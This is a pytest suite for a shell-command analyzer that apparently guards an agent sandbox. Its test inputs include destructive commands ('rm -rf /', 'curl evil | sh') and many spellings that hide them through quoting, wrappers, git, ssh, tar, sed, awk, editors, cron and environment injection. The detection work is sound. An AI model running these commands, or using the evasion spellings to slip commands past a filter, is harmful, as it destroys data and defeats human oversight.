"""Shell analysis: every program bash would run is found, or the command is opaque."""

from __future__ import annotations

import pytest

from safehold.policy.shell import MAX_COMMAND_LENGTH, Redirect, ShellAnalysis, analyze


def argvs(command: str | list[str]) -> list[tuple[str, ...]]:
    return [c.argv for c in analyze(command).commands]


def opaque_codes(command: object) -> set[str]:
    return {r.code for r in analyze(command).opaque}  # type: ignore[arg-type]


def understood(command: str) -> ShellAnalysis:
    result = analyze(command)
    assert result.opaque == (), result.opaque
    return result


# -- splitting ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status && rm -rf ~", [("git", "status"), ("rm", "-rf", "~")]),
        ("a || b; c & d | e |& f", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)]),
        ("git status; ls\nrm -rf ~", [("git", "status"), ("ls",), ("rm", "-rf", "~")]),
        (
            "(cd /tmp && rm -rf x) & { echo a; rm y; }",
            [("cd", "/tmp"), ("rm", "-rf", "x"), ("echo", "a"), ("rm", "y")],
        ),
        ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("for f in 1 2; do rm x; done; while a; do b; done", [("rm", "x"), ("a",), ("b",)]),
        ("case x in a) rm y;; *) ls;; esac", [("rm", "y"), ("ls",)]),
        ("f() { rm z; }; f", [("rm", "z"), ("f",)]),
        ("! rm x", [("rm", "x")]),
        ("echo a#b # rm -rf /", [("echo", "a#b")]),
    ],
)
def test_compound_commands_split_into_every_simple_command(
    command: str, expected: list[tuple[str, ...]]
) -> None:
    assert sorted(argvs(command)) == sorted(expected)


@pytest.mark.parametrize(
    ("command", "hidden"),
    [
        ("echo $(rm -rf ~)", ("rm", "-rf", "~")),
        ("echo `rm -rf ~`", ("rm", "-rf", "~")),
        ('echo "a $(rm -rf ~) b"', ("rm", "-rf", "~")),
        ('echo "`rm x`"', ("rm", "x")),
        ("diff <(cat a) >(rm b)", ("rm", "b")),
        ("x=$(rm y) ls", ("rm", "y")),
        ("echo ${x:-$(rm y)}", ("rm", "y")),
        ("echo $(( $(rm y) + 1 ))", ("rm", "y")),
        ("cat <<EOF\n$(rm y)\nEOF\n", ("rm", "y")),
        ("[[ -f $(rm y) ]]", ("rm", "y")),
        ("a[$(rm y)]=1", ("rm", "y")),
        ("echo >out $(rm y) z", ("rm", "y")),
    ],
)
def test_substitutions_are_found_wherever_they_hide(command: str, hidden: tuple[str, ...]) -> None:
    assert hidden in argvs(command)


def test_a_quoted_heredoc_body_is_data_not_commands() -> None:
    result = understood("cat <<'EOF'\n$(rm y)\nEOF\n")
    assert [c.argv for c in result.commands] == [("cat",)]


# -- static words ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "spelling", ["r\\m", '"r"m', "'r'm", "$'\\x72m'", "$'\\162m'", "$'r'm", '"rm"', "\\r\\m"]
)
def test_quoting_the_program_name_does_not_hide_it(spelling: str) -> None:
    result = understood(f"{spelling} -rf /")
    assert [c.argv for c in result.commands] == [("rm", "-rf", "/")]
    assert result.commands[0].program == "rm"


def test_program_basename_is_normalised() -> None:
    assert analyze("/usr/bin/rm -rf x").commands[0].program == "rm"


def test_computed_words_are_marked_dynamic() -> None:
    cmd = analyze('rm "$x" *.py {a,b} ~/y a=~/z plain "~"').commands[0]
    assert cmd.dynamic == frozenset({1, 2, 3, 4, 5})
    assert cmd.argv[6:] == ("plain", "~")


# -- wrappers --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "wrapped",
    [
        "sudo rm -rf /",
        "sudo -u root -E rm -rf /",
        "env FOO=1 -u BAR rm -rf /",
        "env -i rm -rf /",
        "nice -n 5 rm -rf /",
        "nice -5 rm -rf /",
        "nohup rm -rf /",
        "time rm -rf /",
        "time -p rm -rf /",
        "timeout 10 rm -rf /",
        "timeout -s KILL 10 rm -rf /",
        "command rm -rf /",
        "builtin rm -rf /",
        "exec rm -rf /",
        "stdbuf -o0 rm -rf /",
        "setsid rm -rf /",
        "ionice -c 3 rm -rf /",
        "sudo env X=1 nice timeout 5 rm -rf /",
        "bash -c 'rm -rf /'",
        "sh -c 'rm -rf /'",
        "zsh -c 'rm -rf /'",
        "bash -lc 'rm -rf /'",
        "bash -e -o pipefail -c 'rm -rf /'",
        "bash -c \"bash -c 'rm -rf /'\"",
        'eval "rm -rf /"',
    ],
)
def test_wrappers_are_looked_through(wrapped: str) -> None:
    result = analyze(wrapped)
    assert ("rm", "-rf", "/") in [c.argv for c in result.commands]
    inner = next(c for c in result.commands if c.argv == ("rm", "-rf", "/"))
    assert inner.wrappers, "the wrapper chain is kept"


def test_xargs_command_gets_unknown_stdin_words() -> None:
    cmd = next(c for c in analyze("ls | xargs rm").commands if c.program == "rm")
    assert cmd.argv[0] == "rm" and len(cmd.argv) == 2 and 1 in cmd.dynamic


def test_xargs_replace_string_marks_the_words_it_fills() -> None:
    cmd = next(c for c in analyze("ls | xargs -I{} rm -rf {}").commands if c.program == "rm")
    assert cmd.argv == ("rm", "-rf", "{}") and cmd.dynamic == frozenset({2})


@pytest.mark.parametrize("flag", ["-exec", "-execdir", "-ok", "-okdir"])
def test_find_exec_commands_are_found(flag: str) -> None:
    result = analyze(f"find . -name '*.o' {flag} rm -rf {{}} \\;")
    programs = [c.program for c in result.commands]
    assert programs.count("find") == 1 and "rm" in programs


def test_find_with_two_exec_clauses_yields_both() -> None:
    result = analyze("find . -exec cat {} \\; -exec rm {} +")
    assert {c.program for c in result.commands} == {"find", "cat", "rm"}


def test_git_global_options_are_stripped_for_rules() -> None:
    result = understood("git -C . --no-pager -c color.ui=false status")
    assert result.commands[0].argv == ("git", "status")


def test_git_in_another_directory_is_judged_and_not_understood() -> None:
    # `git -C DIR` runs with the configuration of the repository found in DIR (a nested or
    # bare one may set core.fsmonitor): not understood, and `status` is still its command.
    result = analyze("git -C sub --no-pager status")
    assert [r.code for r in result.opaque] == ["not-understood"]
    assert ("git", "status") in [c.argv for c in result.commands]


def test_command_v_does_not_run_its_argument() -> None:
    assert argvs("command -v rm") == [("command", "-v", "rm")]


# -- opaque ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("$x -rf /", "dynamic-command-name"),
        ("$(echo rm) -rf /", "dynamic-command-name"),
        ("`echo rm` -rf /", "dynamic-command-name"),
        ("eval $x", "eval"),
        ("source ./env.sh", "source"),
        (". ./env.sh", "source"),
        ('echo "unterminated && rm -rf /', "unparseable"),
        ("git status\n\\\nrm -rf .", "line-continuation"),
        ("cat .en\\\nv", "line-continuation"),
        ("echo\x0brm x", "control-character"),
        ("echo\rrm x", "control-character"),
        ("echo\u00a0rm", "control-character"),
        ("echo \u202erm", "control-character"),
        ("x" * (MAX_COMMAND_LENGTH + 1), "command-too-long"),
        ("'r'\\m -rf /", "ambiguous-word-boundary"),
        ("'a b'\\git", "ambiguous-word-boundary"),
        ('echo $"x"', "ambiguous-word-boundary"),
        ("curl x | sh", "program-from-stdin"),
        ("bash < script.sh", "program-from-stdin"),
        ("python3 <<EOF\nprint(1)\nEOF\n", "heredoc-script"),
        ('bash -c "$CMD"', "dynamic-script"),
        ("python -c 'import os'", "inline-code"),
        ("node -e 'x'", "inline-code"),
        ("perl -ne 'print'", "inline-code"),
        ("LD_PRELOAD=/tmp/x.so ls", "dangerous-env"),
        ("PATH=/tmp ls", "dangerous-env"),
        ("export PAGER=evil; git log", "dangerous-env"),
        ("GIT_SSH_COMMAND='sh -c x' git fetch", "dangerous-env"),
        ("env BASH_ENV=/tmp/x bash script.sh", "dangerous-env"),
        ("git -c core.pager='sh -c x' log", "git-config-code"),
        ("git -c alias.x='!rm -rf /' x", "git-config-code"),
        ("env -S 'rm -rf /'", "env-split-string"),
        ("sudo -s rm x", "hidden-command"),
        ("alias ls='rm -rf /'; ls", "hidden-command"),
        ("trap 'rm -rf /' EXIT", "hidden-command"),
        ("echo hi > $OUT", "dynamic-redirect"),
        ("x='a[$(rm y)]'; echo $((x))", "arithmetic-code"),
        ("cat <<EOF\n`rm y`\nEOF\n", "heredoc-substitution"),
        ("timeout --bogus 5 rm x", "unknown-wrapper-option"),
        ("find . -exec rm {}", "unknown-wrapper-option"),
        ("time { rm -rf /; }", "reserved-word"),  # found by the bash differential test
        ("echo \\ x", "unparsed-text"),
        ('bash -c \'bash -c "bash -c \\"bash -c ls\\""\'', "nesting-too-deep"),
    ],
)
def test_what_is_not_statically_known_is_opaque(command: str, code: str) -> None:
    assert code in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "ls -la | grep x | wc -l",
        "npm test",
        "echo $HOME",
        'for f in *.py; do echo "$f"; done',
        "cat <<'EOF'\nhello\nEOF\n",
        "FOO=1 make",
        "python3 script.py",
        "bash script.sh",
        "rm -rf build/",
        "ls 2>&1 >/dev/null",
    ],
)
def test_ordinary_commands_are_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "garbage",
    [None, 42, 3.5, b"ls", ["ls", 3], [], [""], {"cmd": "ls"}, object(), "", "   \n"],
)
def test_garbage_input_is_opaque_never_an_exception(garbage: object) -> None:
    result = analyze(garbage)  # type: ignore[arg-type]
    assert result.opaque and not result.commands


def test_issue_4_a_huge_sequence_is_measured_not_copied() -> None:
    # Found by the deep hypothesis profile: `list(range(10**12))` ran the machine out of memory.
    assert opaque_codes(range(10**12)) == {"command-too-long"}
    assert opaque_codes(range(10**30)) == {"analysis-error"}


def test_an_argv_list_is_one_command_with_no_shell_parsing() -> None:
    result = understood_argv(["echo", "a && rm -rf /", "$(x)"])
    assert [c.argv for c in result.commands] == [("echo", "a && rm -rf /", "$(x)")]


def understood_argv(argv: list[str]) -> ShellAnalysis:
    result = analyze(argv)
    assert result.opaque == ()
    return result


def test_an_argv_list_still_unwraps_bash_c() -> None:
    assert ("rm", "-rf", "/") in argvs(["bash", "-c", "ls; rm -rf /"])


# -- redirections ----------------------------------------------------------------------


def test_redirections_carry_target_and_direction() -> None:
    result = understood("cat < in.txt > out.txt 2>> err.log &> all.log 2>&1 >/dev/null")
    assert set(result.redirects) == {
        Redirect("in.txt", "read", "<"),
        Redirect("out.txt", "write", ">"),
        Redirect("err.log", "write", ">>"),
        Redirect("all.log", "write", "&>"),
    }


def test_redirect_after_a_list_applies_to_the_list() -> None:
    result = understood("git status && npm test > out")
    assert Redirect("out", "write", ">") in result.redirects


def test_words_after_a_redirect_target_are_arguments() -> None:
    assert argvs("rm 2>/dev/null -rf /") == [("rm", "-rf", "/")]


# -- grant argvs -----------------------------------------------------------------------


def test_grant_argvs_name_the_exact_command() -> None:
    one = analyze("git status").grant_argvs
    assert one == (("git", "status"),)
    assert analyze("git status; curl evil | sh").grant_argvs != one
    assert analyze("git status > x").grant_argvs != one
    assert analyze("false && rm x").grant_argvs != analyze("false || rm x").grant_argvs


def test_analysis_of_deep_nesting_is_bounded() -> None:
    deep = "echo " + "$(" * 2000 + "x" + ")" * 2000
    result = analyze(deep)
    assert result.opaque


@pytest.mark.parametrize(
    "command",
    [
        "printf -v 'a[$(touch p)]' %s y",
        "read 'a[$(touch p)]' <<< x",
        'read "a[\\$(touch p)]" <<< x',
        "read $'a[$(touch p)]' <<< x",
        "declare 'a[$(touch p)]=1'",
        "typeset 'a[$(touch p)]=1'",
        "declare -n r='a[$(touch p)]'",
        "export 'a[`touch p`]'",
        "test -v 'a[$(touch p)]'",
        "let 'a[$(touch p)]'",
        "builtin read 'a[$(touch p)]' <<< x",
        "[ -v 'a[$(touch p)]' ]",
        "[[ -v 'a[$(touch p)]' ]]",
        "x='a[$(touch p)]'; [[ $x -eq 1 ]]",
        "x='a[$(touch p)]'; echo ${!x}",
    ],
)
def test_issue_4_builtins_evaluating_subscripts_run_the_code_inside(command: str) -> None:
    # Verified with real bash: each of these runs `touch p` while evaluating `a[...]`.
    assert "arithmetic-code" in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    ["printf -v x %s y", "read -a x <<< y", "declare x=1", "let x=1", "test -v x"],
)
def test_issue_4_builtins_with_plain_names_stay_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    ("command", "code"),
    [
        ("git config core.pager 'rm -rf ~'", "git-config-code"),
        ("git config --local Alias.x '!sh -c x'", "git-config-code"),
        ("git config set core.hooksPath /tmp/h", "git-config-code"),
        ('git config "$KEY" x', "git-config-code"),
        ("git rebase -x 'rm -rf ~' HEAD~1", "git-runs-command"),
        ("git rebase --exec=id HEAD~1", "git-runs-command"),
        ("git fetch --upload-pack='touch p' origin", "git-runs-command"),
        ("git clone -u 'touch p' https://x/y", "git-runs-command"),
        ("git clone --template=/tmp/t https://x/y", "git-runs-command"),
        ("git push --receive-pack=x origin", "git-runs-command"),
        ("git archive --exec=x --remote=y HEAD", "git-runs-command"),
        ("git grep -Oid x", "git-runs-command"),
        ("git difftool -x id", "git-runs-command"),
        ("git submodule foreach 'rm -rf ~'", "git-runs-command"),
        ("git bisect run ./x.sh", "git-runs-command"),
        ("git filter-branch --tree-filter id HEAD", "git-runs-command"),
    ],
)
def test_issue_4_git_options_that_run_or_install_commands_are_opaque(
    command: str, code: str
) -> None:
    assert code in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    [
        "git config user.name 'A B'",
        "git config --get remote.origin.url",
        "git config --list",
        "git rebase -i HEAD~2",
        "git fetch -u origin",
        "git grep -n foo",
        "git submodule update --init",
        "git bisect start",
    ],
)
def test_issue_4_ordinary_git_subcommands_stay_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "command",
    [
        "ssh host 'rm -rf /'",
        "ssh -i key -p 22 host rm -rf /",
        "ssh -o ProxyCommand='rm -rf /' host",
        "ssh -oProxyCommand='rm -rf /' host",
        "scp -o 'ProxyCommand rm -rf /' a host:",
        "sftp -o ProxyCommand='rm -rf /' host",
        "scp -S 'rm -rf /' a host:",
        "tar -xf x.tar --to-command='rm -rf /'",
        "tar -cf x.tar --checkpoint-action=exec='rm -rf /' .",
        "tar --use-compress-program='rm -rf /' -cf x .",
        "tar -I 'rm -rf /' -cf x .",
        "rsync -e 'rm -rf /' a host:",
        "rsync -avze 'rm -rf /' a host:",
        "rsync --rsh='rm -rf /' a host:",
        "man -P 'rm -rf /' ls",
        "man --pager='rm -rf /' ls",
    ],
)
def test_issue_4_command_strings_handed_to_a_shell_are_analysed(command: str) -> None:
    # These programs run the string with a shell (locally, or on the remote host for ssh):
    # it was one opaque-free word before, so `rm -rf /` inside ran unattended.
    assert ("rm", "-rf", "/") in argvs(command)


@pytest.mark.parametrize(
    ("command", "code"),
    [("ssh -F ./cfg host", "hidden-command"), ('ssh host "$CMD"', "dynamic-script")],
)
def test_issue_4_unknowable_command_strings_are_opaque(command: str, code: str) -> None:
    assert code in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    [
        "ssh host",
        "ssh -t host 'cd /srv && make'",
        "rsync -avz -e ssh src host:",
        "tar czf x.tgz src",
    ],
)
def test_issue_4_ordinary_remote_and_archive_commands_stay_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "command",
    [
        "python3 -W ignore -c 'import os'",
        "python3 -X dev -c x",
        "node --require ./x -e x",
        "node -r x -e x",
        "node --some-new-option v -e x",
        "perl -I lib -e x",
        "perl -M strict -e x",
        "ruby -I lib -e x",
        "ruby -C dir -e x",
        "php -d x=1 -r x",
        "lua -l x -e x",
        "fish -c 'rm -rf ~'",
        "csh -c x",
        "pwsh -Command x",
        "pwsh -COMMAND x",
        "bun -e x",
        "deno eval x",
        "Rscript -e x",
        "julia -e x",
        "expect -c x",
        "osascript -e x",
    ],
)
def test_issue_4_inline_code_is_found_after_option_values_and_in_more_runtimes(
    command: str,
) -> None:
    # `python3 -W ignore -c CODE` was read as running the script `ignore`.
    assert "inline-code" in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    ["python3 -W error x.py", "python3 -u x.py", "node x.js", "deno run x.ts", "Rscript x.R"],
)
def test_issue_4_scripts_run_by_runtimes_stay_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "command",
    [
        "crontab x",
        "echo '* * * * * id' | crontab -",
        "echo id | at now",
        "batch < x",
        "systemd-run --user id",
        "tmux new -d 'rm -rf ~'",
        "tmux send-keys id Enter",
        "screen -dm id",
    ],
)
def test_issue_4_commands_scheduled_or_run_by_a_server_are_hidden(command: str) -> None:
    # cron, at, systemd and a running tmux/screen server run these later, elsewhere, and
    # possibly outside the sandbox; the code they get was never analysed.
    assert "hidden-command" in opaque_codes(command)


def test_issue_4_listing_the_crontab_is_understood() -> None:
    understood("crontab -l")


@pytest.mark.parametrize(
    "command",
    [
        "xargs --process-slot-var=PATH id",
        "xargs --process-slot-var LD_PRELOAD id",
        'xargs --process-slot-var "$V" id',
    ],
)
def test_issue_4_xargs_slot_variable_is_an_assignment(command: str) -> None:
    # xargs sets the variable for the program it runs: PATH=0 makes `id` resolve to ./0/id.
    assert "dangerous-env" in opaque_codes(command)


def test_issue_4_an_ordinary_xargs_slot_variable_is_understood() -> None:
    understood("xargs -P4 --process-slot-var SLOT echo")


@pytest.mark.parametrize(
    "command",
    [
        "awk 'BEGIN { system(\"rm -rf ~\") }'",
        "awk '{ print | \"sh\" }' f",
        "awk 'BEGIN { \"id\" | getline x }'",
        "gawk -v x=1 'BEGIN { system(\"id\") }'",
        "gawk -e 'BEGIN { system(\"id\") }'",
        "gawk --source='BEGIN { system(\"id\") }'",
    ],
)
def test_issue_4_awk_programs_that_run_commands_are_inline_code(command: str) -> None:
    assert "inline-code" in opaque_codes(command)


@pytest.mark.parametrize("command", ['awk "$PROG" f', 'sed "$SCRIPT" f', 'vim -c "$X" f'])
def test_a_computed_awk_sed_or_editor_script_is_computed_code(command: str) -> None:
    # Not `inline-code`, which the sandbox may allow: nobody can see what will run.
    assert "dynamic-script" in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    [
        "awk -F: '{print $1}' /etc/passwd",
        "awk '/a|b/ {print $2}' f",
        "awk -F'|' '{print $1}' f",
        "awk -f prog.awk f",
        "ls | awk '{s+=$5} END {print s}'",
    ],
)
def test_issue_4_ordinary_awk_programs_stay_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "command",
    [
        "sed '1e rm -rf ~' f",
        "sed '1eecho x' f",
        "sed '/x/e id' f",
        "sed '$!e id' f",
        "sed 's/.*/id/e' f",
        "sed 's|x|id|ge' f",
        "sed -ne '1e id' f",
        "sed -ne1eid f",
        "sed --expression='1e id' f",
    ],
)
def test_issue_4_sed_scripts_that_run_commands_are_inline_code(command: str) -> None:
    # GNU sed's `e` command and `s///e` flag run shell commands; verified with real sed.
    assert "inline-code" in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    [
        "sed -i 's/a/b/' f",
        "sed 's/e/E/g' f",
        "sed -n '/e/p' f",
        "sed ':end;N;b end' f",
        "sed 'y/e/E/' f",
        "sed -ie 's/a/b/' f",
        "sed -i.bake 's/a/b/' f",
        "sed -f s.sed f",
        "sed '1!G;h;$!d' f",
    ],
)
def test_issue_4_ordinary_sed_scripts_stay_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "command",
    [
        "vim -c '!rm -rf ~' x",
        "vim +'!id' x",
        "nvim --cmd '!id'",
        "ex -s -c '%s/a/b/|x' f",
        "emacs --eval '(shell-command \"id\")'",
        "emacs -batch -eval '(x)'",
        "emacsclient -e '(x)'",
    ],
)
def test_issue_4_editor_commands_on_the_command_line_are_inline_code(command: str) -> None:
    assert "inline-code" in opaque_codes(command)


@pytest.mark.parametrize("command", ["vim +10 f", "vim +/foo f", "vim -R f", "vim -x f", "emacs f"])
def test_issue_4_opening_a_file_in_an_editor_is_understood(command: str) -> None:
    understood(command)


@pytest.mark.parametrize(
    "command",
    [
        "(( PATH=1 )); ls",
        "echo $((IFS=1)); ls",
        "(( HOME++ )); git log",
        "x=$(( CDPATH += 1 ))",
        "for (( i=0; i<1; GLOBIGNORE++ )); do head src/*; done",
        "echo ${a[0]} ${PAGER[0]:=id}",
        "cat <<EOF\n${BASH_ENV=/opt/rc}\nEOF\nbash run.sh",
        "let 'NODE_OPTIONS+=1'",
        "declare -x -- 'PAGER=id'",
        "export 'PATH+=:/opt/shims'",
        'typeset -x "$n=1"',
    ],
)
def test_variables_set_in_other_spellings_are_assignments(command: str) -> None:
    # Arithmetic, `${NAME:=…}` and declaration words in any quoting set the variable.
    assert "dangerous-env" in opaque_codes(command)


@pytest.mark.parametrize(
    "command",
    [
        "for (( i=0; i<3; i++ )); do echo $i; done",
        "[[ PATH = x ]] && echo same",
        "echo ${PATH:-none} ${HOME:+set} ${IFS:?unset}",
        "export -p PATH",
        'declare -x FOO="$PWD/build"',
        "local -a items",
        "TMPDIR=build/tmp pytest -q",
        "V=1 make",
        "export JOBS=4; make -j",
    ],
)
def test_reading_or_harmless_settings_stay_understood(command: str) -> None:
    understood(command)
